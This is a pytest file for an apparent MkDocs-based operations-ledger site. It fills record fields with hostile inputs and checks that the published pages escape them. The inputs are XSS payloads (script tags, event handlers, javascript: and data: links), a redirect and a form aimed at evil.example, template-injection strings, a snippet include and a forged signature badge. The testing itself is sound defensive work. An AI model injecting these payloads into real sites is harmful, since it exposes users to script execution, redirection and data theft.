"""Hostile text in every text field of a record: nothing executable reaches any page."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from sitebuild import mkdocs_build, site_repo, tags_of

from opsledger.loader import load

PAYLOADS = [
    '<script>alert("xss-script")</script>',
    '<img src=x onerror=alert("xss-img")>',
    '[click](javascript:alert("xss-js"))',
    '[ref][r]\n\n[r]: javascript:alert("xss-ref")',
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzLWRhdGEnKTwvc2NyaXB0Pg==)",
    'text {: onclick="alert(\'xss-attr\')" }',
    '```\n</code></pre><script>alert("xss-fence")</script>\n```',
    '`</code><script>alert("xss-span")</script>`',
    '<svg onload=alert("xss-svg")>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/"><input name=p></form>',
    '--8<-- "opsledger.yaml"',
    "{{ config.site_name }} {% include 'base.html' %} {{ 7*7 }}",
    '## Approved\n\n<span class="ol-badge ol-sig-valid">valid</span>',
    "![tracker](https://evil.example/pixel.png)",
]
BLOCK = "\n\n".join(PAYLOADS)
LINE = " ".join(p.replace("\n", " ") for p in PAYLOADS)
TITLE = 'Fine\n---\ntitle: <script>alert("xss-title")</script>\n---\n{{ 7*7 }}'
TEXT_KEYS = {"summary", "text", "notes", "communication", "trigger", "comment",
             "revenue_impact"}
LIST_KEYS = {"changes", "steps", "abort_criteria", "evidence", "went_well", "went_wrong",
             "lucky", "follow_ups"}


def poison(value: Any, key: str = "") -> Any:
    if isinstance(value, dict):
        out = {k: poison(v, k) for k, v in value.items()}
        if "title" in out and isinstance(out["title"], str):
            out["title"] = TITLE if key == "" else LINE
        return out
    if isinstance(value, list):
        if key in LIST_KEYS:
            return [BLOCK, LINE]
        return [poison(v, key) for v in value]
    if key in TEXT_KEYS and isinstance(value, str):
        return BLOCK
    return value


def rewrite(path: Path, extra: Callable[[dict[str, Any]], None]) -> None:
    data = poison(load(str(path), path.read_bytes()).data)  # times stay strings
    extra(data)
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False))


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = site_repo(tmp_path_factory.mktemp("hostile") / "ledger")
    incident = root / "incidents" / "INC-2026-0003" / "incident.yaml"

    def incident_extra(data: dict[str, Any]) -> None:
        data["root_causes"] = [{"summary": BLOCK, "category": "software"}]
        data["lessons"] = {"went_well": [BLOCK], "went_wrong": [LINE], "lucky": [LINE]}
        data["action_items"] = [{"id": "AI-1", "title": LINE, "owner": "bob",
                                 "due": "2026-12-01", "status": "open", "category": "prevent",
                                 "ticket": LINE}]
        data["impact"]["revenue_impact"] = BLOCK

    rewrite(incident, incident_extra)
    (incident.parent / "postmortem.md").write_text(BLOCK)
    rewrite(root / "releases" / "REL-2026-0006" / "release.yaml", fill_release)
    done = mkdocs_build(root, "--strict")  # every payload is valid data: it gets published
    assert done.returncode == 0, done.stderr
    return root / "public"


def fill_release(data: dict[str, Any]) -> None:
    """REL-2026-0006 is a bare draft: give it every section of the form, all poisoned."""
    data.update(poison({
        "executor": "dave", "changes": [], "impact": {"services": ["search"], "user_facing": True, "downtime_minutes": 0,
                                        "data_migration": False, "notes": ""},
        "testing": {"summary": "", "evidence": [], "result": "passed"},
        "rollback": {"trigger": "", "steps": [], "estimated_minutes": 5, "rehearsed": True},
        "emergency_response": {"incident_commander": "judy", "oncall": ["bob"], "escalation": [
            {"after_minutes": 5, "contact": "judy", "via": "pager"}], "communication": "",
            "abort_criteria": []},
        "review": {"summary": "", "by": "heidi", "at": "2026-11-26T10:00:00+00:00",
                   "follow_ups": []}}))


PAGES = ["incidents/INC-2026-0003.html", "releases/REL-2026-0006.html", "incidents/index.html",
         "releases/index.html", "releases/calendar.html", "index.html", "action-items.html",
         "postmortems.html"]


@pytest.mark.parametrize("page", PAGES)
def test_nothing_executable_survives(hostile: Path, page: str) -> None:
    parsed = tags_of(hostile / page)
    for tag, attrs in parsed.tags:
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name, value)
            if name in ("href", "src", "action", "formaction", "xlink:href") and value:
                assert not value.strip().lower().startswith(("javascript:", "data:",
                                                             "vbscript:")), (tag, value)
        assert tag not in ("iframe", "object", "embed", "img"), (tag, attrs)
        if tag == "meta":
            assert "http-equiv" not in attrs, attrs
        if tag == "form":
            assert attrs.get("class") == "md-search__form", attrs
        if tag == "script":
            assert attrs.get("src") is None or not attrs["src"].startswith(("http", "//"))
    assert not any("xss-" in script for script in parsed.scripts)


def test_text_stays_text(hostile: Path) -> None:
    page = (hostile / "incidents" / "INC-2026-0003.html").read_text()
    assert "<title>INC-2026-0003 - Operations ledger</title>" in page
    assert "&lt;script&gt;alert(&#34;xss-script&#34;)&lt;/script&gt;" in page \
        or "&lt;script&gt;alert(&quot;xss-script&quot;)&lt;/script&gt;" in page
    assert "{{ 7*7 }}" in page and "{% include" in page  # literal, never a template
    assert "signoff_evidence" not in page  # no snippet include of opsledger.yaml
    badges = [a.get("class") for _, a in tags_of(hostile / "incidents" / "INC-2026-0003.html")
              .tags if "ol-sig-valid" in str(a.get("class"))]
    assert badges == []  # the fake "valid" badge is shown as text, not as a badge
    assert "<h2>Approved" not in page and "<h5>Approved</h5>" in page  # demoted, in its box
    assert "evil.example/pixel.png" not in page.replace("https://evil.example/pixel.png)", "")
    nav = page.split('<nav class="md-nav md-nav--primary"')[1]
    assert "xss-title" not in nav.split("md-sidebar--secondary")[0]


def test_newline_title_cannot_inject_front_matter(hostile: Path) -> None:
    page = (hostile / "incidents" / "INC-2026-0003.html").read_text()
    head = page.split("</head>")[0]
    assert "injected" not in head and "xss-title" not in head
    assert '<span class="ol-title">Fine\n---\ntitle: &lt;script&gt;' in page
